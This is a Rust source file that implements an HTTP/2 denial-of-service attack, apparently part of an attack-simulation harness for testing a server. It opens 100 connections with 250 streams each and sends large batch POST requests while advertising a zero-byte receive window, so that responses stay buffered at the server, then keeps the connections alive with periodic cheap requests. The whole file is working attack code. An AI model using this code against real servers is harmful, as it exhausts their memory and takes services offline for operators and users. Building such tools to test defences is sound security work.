//! Answers that the attacker asks for and never takes: its streams have a window of no bytes.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use crate::attacks::attacker::http2::{
    self, END_STREAM, FIRST_STREAM, Kind, NO_FLAGS, Received, frame, request,
};
use crate::attacks::attacker::shared::{Attacker, CHEAP, EXPLAIN, Tally, source};
use crate::process::now;

const CONNECTIONS: u8 = 100;

/// Streams of a connection that are asked for at once; the server permits a few more by default.
const STREAMS: u32 = 250;

/// Questions of a batch, the most that there may be.
const QUESTIONS: usize = 1_000;

/// From one sign of life to the next.
const ALIVE: Duration = Duration::from_secs(5);

/// What a server lets clients send before it has said more (RFC 9113, section 6.9.2).
const FIRST_WINDOW: i64 = 65_535;

/// What is asked on each stream.
#[derive(Clone, Debug)]
pub(super) struct Question {
    method: &'static str,
    path: &'static str,
    body: Vec<u8>,
}

/// The shortest batch with the longest answer.
pub(super) fn batch() -> Question {
    let body = format!(r#"{{"requests":[{}]}}"#, ["{}"; QUESTIONS].join(",")).into_bytes();
    Question { method: "POST", path: "/api/v1/route/batch", body }
}

pub(super) fn explanation() -> Question {
    Question { method: "GET", path: EXPLAIN, body: Vec::new() }
}

pub(super) fn begin(attacker: &Attacker, question: &Question) {
    for connection in 0..CONNECTIONS {
        let attacker = attacker.clone();
        let question = question.clone();
        thread::spawn(move || {
            loop {
                attacker.attempt(source(connection), |stream| {
                    let unread = Unread { stream, begun: Vec::new(), window: FIRST_WINDOW };
                    unread.ask(&question, &attacker.tally)
                });
            }
        });
    }
}

/// A connection whose answers stay at the server.
#[derive(Debug)]
struct Unread {
    stream: TcpStream,
    /// What has come of a frame that is not there as a whole.
    begun: Vec<u8>,
    /// What the attacker may still send in bodies.
    window: i64,
}

impl Unread {
    /// Asks on all streams, and then seems alive until the server closes the connection.
    fn ask(mut self, question: &Question, tally: &Tally) -> io::Result<()> {
        let Question { method, path, body } = question;
        let length = i64::try_from(body.len()).unwrap_or(i64::MAX);
        let flags = if body.is_empty() { END_STREAM } else { NO_FLAGS };
        let mut streams = (FIRST_STREAM..).step_by(2);
        self.stream.write_all(&http2::beginning(0))?;
        for stream in streams.by_ref().take(STREAMS as usize) {
            while self.window < length {
                self.receive(ALIVE)?;
            }
            let mut asked = request(stream, method, path, flags);
            if !body.is_empty() {
                asked.extend(frame(Kind::Data, END_STREAM, stream, body));
            }
            self.stream.write_all(&asked)?;
            self.window -= length;
            Tally::add(&tally.sent, 1);
        }
        for stream in streams {
            let next = now() + ALIVE;
            while now() < next {
                self.receive(ALIVE)?;
            }
            let (method, path) = CHEAP;
            self.stream.write_all(&request(stream, method, path, END_STREAM))?;
        }
        Ok(())
    }

    /// Takes in what comes within a time: control frames and heads of answers.
    fn receive(&mut self, patience: Duration) -> io::Result<()> {
        self.stream.set_read_timeout(Some(patience))?;
        let mut part = [0; 16 << 10];
        match self.stream.read(&mut part) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(read) => self.begun.extend_from_slice(&part[..read]),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
        let Received { window, is_over } = http2::take_frames(&mut self.begun);
        self.window += window;
        if is_over { Err(io::ErrorKind::ConnectionReset.into()) } else { Ok(()) }
    }
}
